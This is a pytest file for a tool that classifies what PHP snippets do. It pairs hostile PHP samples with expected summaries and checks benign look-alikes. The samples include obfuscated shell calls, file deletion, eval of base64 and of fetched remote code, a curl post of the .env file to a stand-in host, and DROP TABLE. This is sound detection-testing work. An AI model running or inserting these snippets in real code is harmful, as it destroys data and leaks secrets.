"""What php snippets do, and their harmless twins."""

from __future__ import annotations

from collections.abc import Callable

import pytest

LANGUAGE = "php"
SCRIPTS = {"/w/helper.py": "pass"}
ATTACKS = [
    ("unlink('/x');", "delete /x"),
    ("system('rm '.$x);", "shell rm \x00"),
    ("`ls $y`;", "shell ls \x00"),
    ("$f='sys'.'tem'; $f('z');", "shell z"),
    ("\\system('q');", "shell q"),
    ("SyStEm('q');", "shell q"),
    ("<?php eval(base64_decode('c3lzdGVtKCk7'));", "code php system();"),
    ("array_map('unlink', glob('/tmp/*'));", "delete /tmp/* G"),
    ("foreach (['a','b'] as $f) { unlink($f); }", "delete /w/b"),
    ("$g = function($x) { unlink($x); }; $g('/a');", "delete /a"),
    ("h('c'); function h($p){ unlink($p);}", "delete /w/c"),
    ("eval(file_get_contents('http://e'));", "run-fetched http://e"),
    ("call_user_func('sys'.'tem','id');", "shell id"),
    ("$c=curl_init('http://e'); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents('.env'));", "send http://e </w/.env"),
    ("$a[]='p'; $a[]='q'; system(implode(' ',$a));", "shell p q"),
    ("unlink($argv[1]);", "delete /w/A1"),
    (
        "class A{public $p; function __construct($p){$this->p=$p;} function go(){unlink($this->p);}} (new A('/z'))->go();",
        "delete /z",
    ),
    ("$d=new PDO('sqlite:x'); $d->exec('DROP TABLE x');", "code sql DROP TABLE x"),
    ("match(1) { 1 => unlink('g') };", "delete /w/g"),
    ("$q('z');", "unresolved \x00"),
]
HARMLESS = ["echo 'rm -rf /';", "// system('rm')\n$x = 1;", "$a = ['unlink']; echo count($a);"]


@pytest.mark.parametrize(("source", "expected"), ATTACKS)
def test_found(brief_of: Callable[..., set[str]], source: str, expected: str) -> None:
    assert expected in brief_of(LANGUAGE, source, ("A1", "A2") if "A1" in expected else (), scripts=SCRIPTS)


@pytest.mark.parametrize("source", HARMLESS)
def test_harmless(brief_of: Callable[..., set[str]], source: str) -> None:
    assert brief_of(LANGUAGE, source) == set()
